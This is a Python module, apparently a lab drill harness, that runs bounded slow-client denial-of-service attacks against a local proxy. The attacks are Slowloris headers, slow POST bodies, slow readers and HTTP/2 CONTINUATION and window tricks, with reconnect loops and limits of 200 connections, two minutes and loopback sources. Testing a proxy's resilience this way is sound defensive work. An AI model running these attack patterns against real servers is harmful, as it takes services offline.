"""Attackers who come again when they are cut, for a while: slow clients for drills and for trials by hand.

    python -m lab.drills.siege slow-header --port 10080 --host shop.test --seconds 20 --source 127.0.0.2

Bounded, and of this machine only: at most 200 connections, at most two minutes. Prints what became of them as
JSON.
"""

import argparse
import asyncio
import contextlib
import json
import random
import socket
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from typing import Any

from lab.drills import frames
from lab.drills.attackers import ADDRESS, Attack, connected, dripping, reading_nothing

MOST = 200
LONGEST_SECONDS = 120.0
AGAIN_SECONDS = 0.5
"""After so long, half of it to once and a half, who was cut comes again."""
SAMPLE_SECONDS = 0.25
SMALL_WINDOW = 4096
BLIND_SECONDS = 15.0
"""Who does not read does not see that he was cut: so long a slow reader holds on before he comes again."""
STREAMS = 50
"""Of one HTTP/2 connection; below the hundred that a tier allows by default."""


def slow_header(host: str, path: str, *, http2: bool) -> Attack:
    """Slowloris: headers that never end."""
    if http2:
        first = frames.opening() + frames.asking(1, host, path, flags=frames.END_STREAM)
        each = frames.frame(frames.CONTINUATION, 0, 1, frames.literal("x-slow", "a"))
        return dripping(first, each, patience=LONGEST_SECONDS)
    first = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nx-slow: ".encode()
    return dripping(first, b"a", patience=LONGEST_SECONDS)


def slow_body(host: str, path: str, *, http2: bool) -> Attack:
    """A body of which a byte comes ten times a second."""
    if http2:
        first = frames.opening() + frames.asking(1, host, path, flags=frames.END_HEADERS, method="POST")
        return dripping(first, frames.frame(frames.DATA, 0, 1, b"a"), patience=LONGEST_SECONDS)
    first = f"POST {path} HTTP/1.1\r\nHost: {host}\r\ncontent-length: 100000\r\n\r\n".encode()
    return dripping(first, b"a", patience=LONGEST_SECONDS)


def slow_reader(host: str, path: str, *, http2: bool) -> Attack:
    """Asks for a long answer and does not take it. Over HTTP/2 for many, of each of which it takes a byte: it
    reads its connection, so that only the streams' windows keep them back.
    """
    if http2:
        asked = (frames.asking(stream, host, path) for stream in range(1, 2 * STREAMS, 2))
        return dripping(frames.opening(window=1) + b"".join(asked), b"", patience=LONGEST_SECONDS)
    return reading_nothing(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), BLIND_SECONDS)


KINDS: dict[str, Callable[..., Attack]] = {
    "slow-header": slow_header,
    "slow-body": slow_body,
    "slow-reader": slow_reader,
}


class BadSiege(ValueError):
    """It would be no attack, or one without bounds."""


@dataclass(frozen=True)
class Siege:
    """Who attacks what: `count` connections from a loopback address, for so many seconds. The first begins at
    once, the last up to `over` seconds later.
    """

    kind: str
    port: int
    host: str
    path: str = "/"
    count: int = 100
    seconds: float = 20.0
    source: str = ADDRESS
    http2: bool = False
    over: float = 0.0

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise BadSiege(f"kind is one of {', '.join(KINDS)}, not {self.kind}")
        if not 1 <= self.count <= MOST:
            raise BadSiege(f"count is 1 to {MOST}, not {self.count}")
        if not 0 < self.seconds <= LONGEST_SECONDS:
            raise BadSiege(f"seconds is above 0 and up to {LONGEST_SECONDS:g}, not {self.seconds:g}")
        if not 0 <= self.over <= self.seconds:
            raise BadSiege(f"over is 0 to {self.seconds:g} seconds, not {self.over:g}")
        if not self.source.startswith("127."):
            raise BadSiege(f"source is an address of 127.0.0.0/8, not {self.source}")


@dataclass(slots=True)
class Course:
    """What became of the attackers. `cut` is how often one was ended by the proxy, `refused` how often one
    got no connection; `held` is the number of open ones by seconds since the start.
    """

    opened: int = 0
    refused: int = 0
    cut: int = 0
    lasted: list[float] = field(default_factory=list)
    held: list[tuple[float, int]] = field(default_factory=list)
    open: int = 0

    def as_json(self) -> dict[str, Any]:
        told = asdict(self)
        lasted = sorted(told.pop("lasted"))
        return {**told, "median_seconds": lasted[len(lasted) // 2] if lasted else None}


async def besiege(siege: Siege) -> Course:
    """Until its time is over. It raises nothing that a proxy could cause."""
    course = Course()
    behave = KINDS[siege.kind](siege.host, siege.path, http2=siege.http2)
    attackers = [_attacker(siege, behave, course) for _ in range(siege.count)]
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(siege.seconds):
            await asyncio.gather(_watched(course), *attackers)
    return course


async def _attacker(siege: Siege, behave: Attack, course: Course) -> None:
    await asyncio.sleep(random.uniform(0, siege.over))
    window = SMALL_WINDOW if siege.kind == "slow-reader" and not siege.http2 else None
    while True:
        try:
            client = await connected(siege.port, window=window, source=siege.source)
        except OSError:
            course.refused += 1
        else:
            course.opened += 1
            await _held(client, behave, course)
        await asyncio.sleep(AGAIN_SECONDS * random.uniform(0.5, 1.5))


async def _held(client: socket.socket, behave: Attack, course: Course) -> None:
    began = time.monotonic()
    course.open += 1
    try:
        with client, contextlib.suppress(OSError):
            await behave(client)
        course.cut += 1
        course.lasted.append(time.monotonic() - began)
    finally:
        course.open -= 1


async def _watched(course: Course) -> None:
    began = time.monotonic()
    while True:
        course.held.append((round(time.monotonic() - began, 2), course.open))
        await asyncio.sleep(SAMPLE_SECONDS)


def main(argv: Sequence[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m lab.drills.siege", description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="shop.test")
    parser.add_argument("--path", default="/")
    parser.add_argument("--count", type=int, default=Siege.count)
    parser.add_argument("--seconds", type=float, default=Siege.seconds)
    parser.add_argument("--source", default=ADDRESS)
    parser.add_argument("--http2", action="store_true")
    parser.add_argument("--over", type=float, default=0.0, help="seconds over which they begin")
    try:
        siege = Siege(**vars(parser.parse_args(argv)))
    except BadSiege as error:
        sys.stderr.write(f"siege: {error}\n")
        return 2
    sys.stdout.write(json.dumps(asyncio.run(besiege(siege)).as_json()) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
